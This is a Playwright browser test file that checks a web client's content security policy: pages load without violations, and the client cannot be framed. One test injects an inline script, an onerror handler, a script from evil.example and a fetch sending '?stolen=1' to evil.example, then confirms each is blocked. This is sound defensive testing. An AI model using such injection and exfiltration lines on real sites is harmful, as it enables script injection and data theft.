import { existsSync } from 'node:fs'
import { pagesByModule, tabPages } from '@yiqi/client/src/kernel/site.ts'
import { demoPeople } from '@yiqi/server/identity/demo-people.ts'
import { repoRoot } from '@yiqi/server/kernel/config.ts'
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { launchBrowser } from '../support/browser.ts'
import { type RunningServer, startServer } from '../support/server.ts'
import { openWindow, type Window } from '../support/windows.ts'

// The built client under the content security policy it is served with, in a real browser.

let server: RunningServer
let browser: Browser

beforeAll(async () => {
  server = await startServer()
  browser = await launchBrowser()
}, 120_000)
afterAll(async () => {
  await browser?.close()
  await server?.stop()
})

const tabs = tabPages.map((page) => `/tabs/${page}/index`)
/** Of the site map, what has been built. */
const pages = Object.entries(pagesByModule).flatMap(([module, names]) =>
  names
    .map((name) => `/${module}/${name}/index`)
    .filter((page) => existsSync(`${repoRoot}/client/src${page}.tsx`)),
)

type Watched = { window: Window; violations: string[] }

/** A window that writes down whatever its policy stops, whether or not the page notices. */
async function watched(kind: 'phone' | 'desk'): Promise<Watched> {
  const window = await openWindow(browser, server.url, kind)
  const violations: string[] = []
  await window.page.exposeFunction('violated', (what: string) => void violations.push(what))
  await window.page.addInitScript(`
    document.addEventListener('securitypolicyviolation', (event) =>
      window.violated([event.violatedDirective, event.blockedURI, event.sourceFile].join(' ')))`)
  window.page.on('console', (message) => {
    if (/content security policy|permissions policy|cross-origin/i.test(message.text()))
      violations.push(message.text())
  })
  return { window, violations }
}

async function openEach({ window }: Watched, pages: readonly string[]): Promise<void> {
  for (const page of pages) {
    await window.open(page)
    await window.page.locator('#app').getByText(/\S/).filter({ visible: true }).first().waitFor()
  }
}

it('an enterprise opens every page on a phone, and the policy stops nothing', async () => {
  const phone = await watched('phone')
  await openEach(phone, tabs)
  await phone.window.logInAs(demoPeople.enterpriseMember)
  await openEach(phone, [...tabs, ...pages])
  await phone.window.open('/tabs/home/index')
  await phone.window.type('home-search', 'SEM')
  await phone.window.enter('home-search')
  await phone.window.see('扫描电')
  expect(phone.violations).toEqual([])
  expect(phone.window.errors).toEqual([])
}, 240_000)

it('the voucher desk opens every page on a wide screen, and the policy stops nothing', async () => {
  const desk = await watched('desk')
  await desk.window.logInAs(demoPeople.provinceAdministrator)
  await openEach(desk, [...tabs, ...pages])
  expect(desk.violations).toEqual([])
  expect(desk.window.errors).toEqual([])
}, 240_000)

it('a script that somebody smuggled into a page does not run', async () => {
  const { window, violations } = await watched('phone')
  await window.open('/tabs/home/index')
  const ran = await window.page.evaluate(`(async () => {
    window.ran = []
    const script = document.createElement('script')
    script.textContent = 'window.ran.push("inline")'
    document.body.append(script)
    document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.ran.push(1)">')
    const foreign = document.createElement('script')
    foreign.src = 'https://evil.example/x.js'
    document.body.append(foreign)
    await fetch('https://evil.example/?stolen=1').catch(() => {})
    await new Promise((done) => setTimeout(done, 300))
    return window.ran
  })()`)
  expect(ran).toEqual([])
  const stopped = violations.join('\n')
  expect(stopped).toContain('script-src-elem inline')
  expect(stopped).toContain('script-src-attr inline')
  expect(stopped).toContain('script-src-elem https://evil.example/x.js')
  expect(stopped).toContain('connect-src https://evil.example/')
})

it('no other page can show the client in a frame', async () => {
  const { window } = await watched('phone')
  await window.page.setContent(`<iframe src="${server.url}/"></iframe>`)
  await expect
    .poll(() =>
      window.page
        .frames()
        .find((frame) => frame !== window.page.mainFrame())
        ?.url(),
    )
    .toMatch(/^chrome-error:/)
})
